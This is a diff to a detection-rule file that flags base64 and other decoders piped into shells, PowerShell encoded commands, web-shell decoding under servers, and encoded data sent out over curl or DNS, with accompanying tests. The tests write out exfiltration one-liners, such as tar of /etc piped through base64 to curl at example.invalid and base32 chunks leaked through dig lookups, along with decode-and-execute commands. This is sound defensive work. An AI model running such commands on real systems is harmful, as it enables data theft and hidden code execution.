@@ -89,6 +89,18 @@ signature "data_encoder_exec" {
     executables = ["openssl"]
     mode        = "decode"
   }
+  # Decoders by behaviour: interpreters' standard-library modules run as
+  # tools (python3 -m base64 -d, -m uu, -m quopri) and armour (gpg
+  # --enarmor wraps any data in base64; --dearmor, which installs every
+  # apt keyring, is left out).
+  match {
+    executables = ["python", "pypy", "gpg", "gpg2"]
+    mode        = "decode"
+  }
+  match {
+    executables = ["python", "pypy", "gpg", "gpg2"]
+    mode        = "encode"
+  }
   # Every run alerts, encoding and decoding alike: decoding hides a
   # payload, encoding is how data leaves a host (T1132). The alert's
   # process.mode says which ("encode", "decode", "unknown"). Quiet a known
@@ -131,7 +143,9 @@ signature "decoder_piped_to_interpreter" {
     pipe               = "decoder | interpreter"
     unpiped_importance = "high"
     step "decoder" {
-      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "perl"]
+      # Module decoders (python3 -m base64 -d) and renamed or copied
+      # decoders (recognised by what the file is) count too.
+      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
       mode        = "decode"
     }
     step "interpreter" {
@@ -139,14 +153,57 @@ signature "decoder_piped_to_interpreter" {
       # /usr/bin/env execs the real one in the same process, under the same
       # parent; filters between decoder and interpreter (gunzip, tr, rev)
       # are siblings too and do not break the correlation.
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "tclsh", "wish", "expect", "lua"]
-      # Reading the script from stdin (sh, sh -s, python3 -, perl -) or a
-      # file, not running inline code.
-      no_flags = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      # The decoded stream is the program: read from standard input (sh,
+      # sh -s, python3 -, perl -, /dev/stdin) or a descriptor the
+      # interpreter names (sh /dev/fd/3 3<&0). A script's or a module's
+      # standard input is its data: `… | gunzip` runs `sh /usr/bin/gunzip`,
+      # `… | python3 -m json.tool` a module; neither is raised here.
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
     default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded script", "Isolate the host if the parent is unexpected"]
+  }
+}
+
+signature "decoded_command_executed" {
+  description = "Decoded text run by a shell or interpreter as its code"
+  category    = "Defense Evasion"
+  method      = "Deobfuscate/Decode Files or Information"
+  importance  = "critical"
+  mitre       = ["T1140", "T1027", "T1059.004"]
+  # bash -c "$(echo … | base64 -d)": the decoder's output is a pipe its
+  # shell reads (command substitution), and that shell then runs an
+  # interpreter with inline code. bash <(echo … | base64 -d): the
+  # interpreter reads its program from /dev/fd/63, the decoder's pipe.
+  # The decoder runs in a subshell of the shell that runs the interpreter
+  # (by lineage). Inline code is paired live: the shell held the decoder's
+  # output pipe and then ran the interpreter ("captured"), or the decoder
+  # was gone before it could be read (a quick attacker gains nothing).
+  # Shown not to be so (the decoder wrote a file, or a pipe no shell above
+  # it reads, or the code ran first), there is no pair: a decoder beside
+  # "sh -c" under one shell is everyday work. A replay, which reads no
+  # descriptors, pairs no inline code. A /dev/fd/N program is a pipe,
+  # compared as for decoder_piped_to_interpreter.
+  # PASS=$(… | base64 -d); mysql -p"$PASS" runs no interpreter. Not ordered: bash <(…) may exec
+  # before its decoder does (inline code is only ever run after it).
+  sequence {
+    by                 = "lineage"
+    within             = "3s"
+    pipe               = "decoder | interpreter"
+    unpiped_importance = "high"
+    step "decoder" {
+      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+      mode        = "decode"
+    }
+    step "interpreter" {
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      program_from = ["inline", "fd"]
+    }
+  }
+  actions {
+    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded command from the interpreter's argv", "Find what started the shell"]
   }
 }
 
@@ -161,7 +218,7 @@ signature "decoder_then_tmp_exec" {
     within = "30s"
     ordered = true
     step "decoder" {
-      executables = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "xxd", "openssl"]
+      executables = ["base64", "base32", "basenc", "base16", "base58", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
       mode        = "decode"
     }
     # Failed execs count: a decoded script without a shebang fails with
@@ -181,10 +238,12 @@ signature "interpreter_inline_decode" {
   method      = "Obfuscated Files or Information"
   importance  = "high"
   mitre       = ["T1027", "T1140", "T1059"]
-  executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "expect", "lua"]
+  executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "expect", "lua", "pwsh", "powershell"]
   # Every decoder of the interpreters' standard libraries: base64, base32,
   # hex, base85, uu, quoted-printable, and rot13 or decompression when the
-  # code also runs something.
+  # code also runs something; PowerShell's -EncodedCommand (-e, -ec, -enc,
+  # ... any abbreviation PowerShell accepts, in any case) is a base64
+  # decode of the command it runs.
   match {
     decode_calls = ["base64", "base32", "base85", "uu", "qp", "rot13", "compressed"]
   }
@@ -260,23 +319,88 @@ signature "encoder_then_network" {
   # seconds of each other (xxd f | head, then curl) are only a guess: shown
   # to share no pipe, they are raised at unpiped_importance. A pipe that
   # cannot be checked (a process gone too soon, a replay) is not held
-  # against the alert.
+  # against the alert. By lineage: the network tool may run in a subshell
+  # of the encoder's shell (base32 -w0 f | fold -w 40 | while read l; do
+  # dig $l.x.invalid; done), and filters between them relay the data.
   sequence {
-    by                 = "parent"
+    by                 = "lineage"
     within             = "10s"
     pipe               = "encoder | network"
     unpiped_importance = "medium"
     step "encoder" {
-      executables = ["base64", "base32", "basenc", "base16", "base58", "xxd", "openssl", "uuencode"]
+      executables = ["base64", "base32", "basenc", "base16", "base58", "xxd", "openssl", "uuencode", "python", "pypy", "gpg", "gpg2"]
       mode        = "encode"
     }
     step "network" {
-      executables = ["curl", "wget", "nc", "ncat", "netcat", "socat", "dig", "nslookup", "host", "telnet"]
+      # DNS tools carry data in the names they look up.
+      executables = ["curl", "wget", "nc", "ncat", "netcat", "socat", "dig", "nslookup", "host", "drill", "kdig", "delv", "telnet"]
     }
   }
   actions {
     default    = ["Find the destination in the network tool's arguments", "Check what data was encoded"]
     production = ["Block the destination", "Find the destination in the network tool's arguments", "Check what data was encoded"]
+  }
+}
+
+signature "decoder_under_server" {
+  description = "Decoder run by a web, application or database server"
+  category    = "Persistence"
+  method      = "Server Software Component: Web Shell"
+  importance  = "critical"
+  mitre       = ["T1505.003", "T1140", "T1059"]
+  # A web shell decoding its payload: a decoder, or an interpreter decoding
+  # inline, whose ancestry holds a server. The servers are this list, by
+  # executable or by the process title they set ("php-fpm: pool www",
+  # "postgres: app db", "nginx: worker process"); java and node count only
+  # when their command line shows an application server (a CI agent such
+  # as Jenkins runs java too). Edit the lists for the servers of this host;
+  # the alert names the ancestor that made it critical.
+  ancestor_executables = [
+    "nginx", "apache2", "apache", "httpd", "lighttpd", "caddy", "traefik", "envoy", "haproxy",
+    "php-fpm", "php-cgi", "uwsgi", "gunicorn", "uvicorn", "hypercorn", "puma", "unicorn", "passenger",
+    "tomcat", "catalina", "jboss", "wildfly", "weblogic", "jetty", "glassfish",
+    "postgres", "postmaster", "mysqld", "mariadbd", "redis-server", "mongod", "sqlservr",
+  ]
+  match {
+    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+    mode        = "decode"
+  }
+  match {
+    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
+    decode_calls = ["any"]
+  }
+  throttle {
+    per    = "ancestry"
+    window = "1m"
+  }
+  actions {
+    default = ["Treat as a web shell: find the request that ran it in the server's logs", "Preserve the decoded payload", "Isolate the host"]
+  }
+}
+
+signature "decoder_under_app_server" {
+  description = "Decoder run by a Java or Node application server"
+  category    = "Persistence"
+  method      = "Server Software Component: Web Shell"
+  importance  = "critical"
+  mitre       = ["T1505.003", "T1140", "T1059"]
+  # The same for servers whose executable is a runtime: java running an
+  # application server, node running a server script or under pm2.
+  ancestor_regex = "^\\S*java\\b.*(org\\.apache\\.catalina|jboss|wildfly|weblogic|jetty|glassfish|websphere|spring-boot|\\.war\\b)|^\\S*node(js)?\\b.*\\b(server|app|www|main)\\.[cm]?js\\b|^PM2 "
+  match {
+    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+    mode        = "decode"
+  }
+  match {
+    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
+    decode_calls = ["any"]
+  }
+  throttle {
+    per    = "ancestry"
+    window = "1m"
+  }
+  actions {
+    default = ["Treat as a web shell: find the request that ran it in the application's logs", "Preserve the decoded payload", "Isolate the host"]
   }
 }
 
@@ -348,8 +472,8 @@ signature "inline_decoder_piped_to_interpreter" {
       decode_calls = ["any"]
     }
     step "interpreter" {
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "tclsh", "wish", "expect", "lua"]
-      no_flags    = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
@@ -374,8 +498,8 @@ signature "rot13_piped_to_interpreter" {
       args_regex  = "^$|N-ZA-M|n-za-m|P-~!-O"
     }
     step "interpreter" {
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "perl", "ruby", "php", "node", "nodejs", "tclsh"]
-      no_flags    = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "perl", "ruby", "php", "node", "nodejs", "tclsh"]
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
@@ -535,6 +659,125 @@ test "openssl_x509_is_quiet" {
 
 test "exfiltration" {
   command = "sh -c 'tar cz /etc | base64 | curl -d @- https://example.invalid/u'"
+  expect  = ["encoder_then_network"]
+}
+
+test "script_reading_decoded_data_is_not_critical" {
+  # Debian's gunzip, zcat, zgrep are /bin/sh scripts: the exec is
+  # "sh /usr/bin/gunzip", whose standard input is data, not its program.
+  command    = "sh -c 'base64 -d a.b64 | sh /usr/bin/gunzip | tar tv'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_piped_to_interpreter"]
+}
+
+test "module_reading_decoded_data_is_not_critical" {
+  command    = "sh -c 'base64 -d a.b64 | python3 -m json.tool'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_piped_to_interpreter"]
+}
+
+test "decoded_program_on_another_descriptor" {
+  # sh /dev/fd/3 3<&0 </dev/null: the program is descriptor 3, the
+  # decoder's pipe; standard input is /dev/null.
+  command = "sh -c 'cat t.b64 | base64 -d | sh /dev/fd/3 3<&0 </dev/null'"
+  expect  = ["decoder_piped_to_interpreter"]
+}
+
+test "decoded_program_on_stdin" {
+  command = "sh -c 'cat t.b64 | base64 -d | python3 -'"
+  expect  = ["decoder_piped_to_interpreter"]
+}
+
+test "python_module_decoder" {
+  argv   = ["python3", "-m", "base64", "-d"]
+  expect = ["data_encoder_exec"]
+}
+
+test "python_module_decoder_piped_to_sh" {
+  command = "sh -c 'echo ZWNobyBoaQo= | python3 -m base64 -d | sh'"
+  expect  = ["decoder_piped_to_interpreter", "data_encoder_exec"]
+}
+
+test "python_json_tool_is_no_decoder" {
+  argv       = ["python3", "-m", "json.tool"]
+  expect_not = ["data_encoder_exec"]
+}
+
+test "pwsh_encoded_command" {
+  argv   = ["pwsh", "-NoProfile", "-enc", "ZQBjAGgAbwAgAGgAaQA="]
+  expect = ["interpreter_inline_decode"]
+}
+
+test "pwsh_encoded_command_slash_abbreviation" {
+  argv   = ["powershell", "/EC", "ZQBjAGgAbwAgAGgAaQA="]
+  expect = ["interpreter_inline_decode"]
+}
+
+test "gpg_enarmor" {
+  argv   = ["gpg", "--enarmor", "secret.tar"]
+  expect = ["data_encoder_exec"]
+}
+
+test "gpg_verify_is_quiet" {
+  argv       = ["gpg", "--verify", "release.asc"]
+  expect_not = ["data_encoder_exec"]
+}
+
+test "python_nested_decode_call" {
+  argv   = ["python3", "-c", "import codecs;print(codecs.decode(open(\"q\").read(),\"base64\"))"]
+  expect = ["interpreter_inline_decode"]
+}
+
+test "node_nested_decode_call" {
+  argv   = ["node", "-e", "console.log(Buffer.from(require(\"fs\").readFileSync(\"q\",\"utf8\"),\"base64\").toString())"]
+  expect = ["interpreter_inline_decode"]
+}
+
+test "decoder_under_php_fpm" {
+  argv   = ["base64", "-d"]
+  parent = "php-fpm: pool www"
+  expect = ["decoder_under_server", "data_encoder_exec"]
+}
+
+test "inline_decode_under_nginx" {
+  command = "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"
+  parent  = "nginx: worker process"
+  expect  = ["decoder_under_server"]
+}
+
+test "decoder_under_tomcat" {
+  argv   = ["base64", "-d"]
+  parent = "/usr/bin/java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start"
+  expect = ["decoder_under_app_server"]
+}
+
+test "decoder_under_jenkins_agent_is_not_a_web_shell" {
+  argv       = ["base64", "-d"]
+  parent     = "/usr/bin/java -jar agent.jar -url http://ci.example.invalid"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_under_app_server", "decoder_under_server"]
+}
+
+test "decoder_under_a_shell_is_not_a_web_shell" {
+  argv       = ["base64", "-d"]
+  expect_not = ["decoder_under_server", "decoder_under_app_server"]
+}
+
+test "process_substitution_runs_decoded_text" {
+  # bash -c "$(… | base64 -d)" is paired only live, where the shell
+  # capturing the decoder's output is seen (tests read no descriptors).
+  command = "bash -c 'bash <(echo ZWNobyBoaQo= | base64 -d)'"
+  expect  = ["decoded_command_executed"]
+}
+
+test "decoded_password_is_not_a_command" {
+  command    = "sh -c 'PASS=$(echo aHVudGVyMg== | base64 -d); mysql -p\"$PASS\"'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoded_command_executed", "decoder_piped_to_interpreter"]
+}
+
+test "encoder_to_dns_through_a_loop" {
+  command = "sh -c 'base32 -w0 secret | fold -w 40 | while read l; do dig $l.x.invalid; done'"
   expect  = ["encoder_then_network"]
 }
 
